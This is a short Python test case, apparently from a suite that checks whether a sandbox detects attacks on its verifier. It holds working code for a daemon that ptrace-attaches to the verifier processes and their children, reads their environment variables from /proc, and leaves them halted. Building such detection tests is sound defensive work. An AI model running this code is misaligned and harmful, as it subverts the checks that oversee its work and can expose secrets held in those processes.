"""Attaches to the verifier and all that it starts, as a debugger, to read it and to leave it stopped.

Source: MITRE ATT&CK T1055.008 (ptrace system calls).
"""

from attacks.frame import SEEN, Attack, python_daemon

ATTACK = Attack(
    "shell",
    python_daemon("""
for pid in verifiers():
    for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
        if libc.ptrace(request, pid, 0, 0) == 0:
            keep(open(f"/proc/{pid}/environ", "rb").read())
    for child in open(f"/proc/{pid}/task/{pid}/children").read().split():
        libc.ptrace(16, int(child), 0, 0)
"""),
    ran=SEEN,
)
